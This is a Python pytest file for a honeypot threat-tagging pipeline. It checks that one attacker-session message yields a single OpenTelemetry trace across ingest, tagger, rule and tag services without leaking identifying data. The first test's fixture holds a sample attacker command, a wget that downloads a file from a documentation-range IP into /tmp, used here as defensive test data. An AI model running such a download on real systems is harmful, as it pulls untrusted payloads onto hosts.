# SPDX-License-Identifier: AGPL-3.0-or-later
"""One trace of one message through all services, as a real OTLP collector receives it."""

from __future__ import annotations

from contextlib import AsyncExitStack
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from decnet_ttp.ingest import app as ingest
from decnet_ttp.rule_store import app as rule_store
from decnet_ttp.runtime import otel
from decnet_ttp.runtime.bus import Envelope, connect_bus
from decnet_ttp.runtime.config import Settings, SettingsError
from decnet_ttp.runtime.server import Server
from decnet_ttp.runtime.streams import ensure_streams
from decnet_ttp.runtime.tracing import call_metadata, carrier, enabled, span
from decnet_ttp.tag_store import app as tag_store
from decnet_ttp.tag_store import relay
from decnet_ttp.tagger import app as tagger
from runtime.collector import Collector, collecting
from runtime.seen import MARK, beat_with, logged, running
from runtime.served import until


@pytest.fixture
def _patient(monkeypatch: pytest.MonkeyPatch) -> None:
    """Leave the collector time to answer, which runs within this process."""
    monkeypatch.setattr(otel, "_TIMEOUT_S", 60)


@pytest.mark.usefixtures("_patient")
async def test_one_message_is_one_trace_from_bus_to_announcement(
    nats_url: str,
    database_url: str,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    caplog.set_level("INFO")
    # A row that the relay finds unasked, before it is told of it, has no trace.
    monkeypatch.setattr(relay, "_POLL_S", 600.0)
    async with AsyncExitStack() as stack:
        collector, endpoint = await stack.enter_async_context(collecting())
        own = Settings(
            nats_url=nats_url,
            database_url=database_url,
            rule_store=f"unix:{tmp_path}/r.sock",
            tag_store=f"unix:{tmp_path}/s.sock",
            taggers=(f"unix:{tmp_path}/t.sock",),
            metrics_listen="127.0.0.1:0",
            otel_endpoint=endpoint,
            heartbeat_s=0.1,
            attack_cache_dir=tmp_path / "no-cache",
            grace_s=60.0,
        )
        bus = await connect_bus(own, name="sensor")
        stack.push_async_callback(bus.close)
        await ensure_streams(bus.js)
        store = replace(own, database_url="", listen=own.rule_store)
        for service, main in (
            ("tag-store", tag_store.run(replace(own, listen=own.tag_store))),
            ("rule-store", rule_store.run(store)),
            ("tagger", tagger.run(replace(own, listen=own.taggers[0]), ["rule_engine"])),
            ("ingest", ingest.run(replace(own, listen=f"unix:{tmp_path}/i.sock"))),
        ):
            await stack.enter_async_context(running(bus.nc, service, main, caplog))
        command = {"id": MARK, "command_text": f"wget http://198.51.100.7/{MARK} -O /tmp/x"}
        envelope = Envelope(
            topic="attacker.session.ended",
            type="session.ended",
            id=MARK,
            payload={
                "session_id": MARK,
                "attacker_ip": "198.51.100.23",
                "decky_id": MARK,
                "commands": [command],
            },
        )
        await bus.js.publish(envelope.topic, envelope.encode(), headers=envelope.headers)
        beat = await beat_with(bus.nc, "tag-store", "announced", 1)
        await until(lambda: bool(collector.traces_with("ttp.bus.publish")))
        await until(lambda: bool(collector.traces_with("ttp.worker.receive")))
    assert not enabled()
    _check(collector)
    seen = " ".join(str(each) for each in collector.spans)
    assert MARK not in f"{seen}{beat}{logged(caplog)}"
    assert "198.51.100" not in seen


def _check(collector: Collector) -> None:
    (trace,) = set(collector.traces_with("ttp.worker.receive"))
    spans = [each for each in collector.spans if each.trace_id == trace]
    names = {each.name for each in spans}
    assert names >= {
        "ttp.worker.receive",
        "ttp.worker.anchor",
        "ttp.directory.resolve",
        "ttp.worker.dispatch",
        "ttp.eval",
        "ttp.rule.fire",
        "ttp.tag.write",
        "ttp.bus.publish",
    }
    assert collector.parents(trace) >= {
        ("ttp.worker.anchor", "ttp.worker.receive"),
        ("ttp.directory.resolve", "ttp.worker.anchor"),
        ("ttp.worker.dispatch", "ttp.worker.receive"),
        ("ttp.eval", "ttp.worker.dispatch"),
        ("ttp.rule.fire", "ttp.eval"),
        ("ttp.tag.write", "ttp.worker.receive"),
        ("ttp.bus.publish", "ttp.tag.write"),
    }
    keys = {attribute.key for each in spans for attribute in each.attributes}
    assert keys <= {
        *("messages", "taggers", "announcements", "tags"),
        *("rule_id", "rule_version", "technique_id", "error.type"),
    }


@pytest.mark.usefixtures("_patient")
async def test_failed_call_tells_the_class_of_its_error_only(
    unix: Settings, caplog: pytest.LogCaptureFixture
) -> None:
    async with collecting() as (collector, endpoint):
        server = Server(replace(unix, otel_endpoint=endpoint), name="test")

        async def ready() -> bool:
            return True

        async def work(stop: Any) -> None:
            with pytest.raises(ValueError, match=MARK), span("outer"), span("inner", count=3):
                raise ValueError(MARK)
            assert call_metadata() == ()
            server.request_stop()
            await stop.wait()

        await server.run(ready=ready, tasks=[work])
    outer, inner = sorted(collector.spans, key=lambda each: bool(each.parent_span_id))
    assert (outer.name, inner.name) == ("outer", "inner")
    assert inner.parent_span_id == outer.span_id
    assert {
        each.key: each.value.int_value or each.value.string_value for each in inner.attributes
    } == {
        "count": 3,
        "error.type": "ValueError",
    }
    assert MARK not in f"{collector.spans}{logged(caplog)}"


async def test_absent_collector_holds_nobody_up(unix: Settings) -> None:
    server = Server(replace(unix, otel_endpoint="http://127.0.0.1:9"), name="test")

    async def ready() -> bool:
        return True

    async def work(stop: Any) -> None:
        for _ in range(10_000):
            with span("step"):
                pass
        server.request_stop()
        await stop.wait()

    await server.run(ready=ready, tasks=[work])
    assert not enabled()


@pytest.mark.parametrize("endpoint", ["127.0.0.1:4317", "unix:/x", "http://"])
async def test_collector_that_is_no_url_is_named(unix: Settings, endpoint: str) -> None:
    async def ready() -> bool:
        return True

    with pytest.raises(SettingsError, match="otel_endpoint"):
        await Server(replace(unix, otel_endpoint=endpoint), name="test").run(ready=ready)


def test_off_is_nothing() -> None:
    assert not enabled()
    assert span("step", messages=1) is span("other")
    assert (carrier(), call_metadata()) == (None, None)
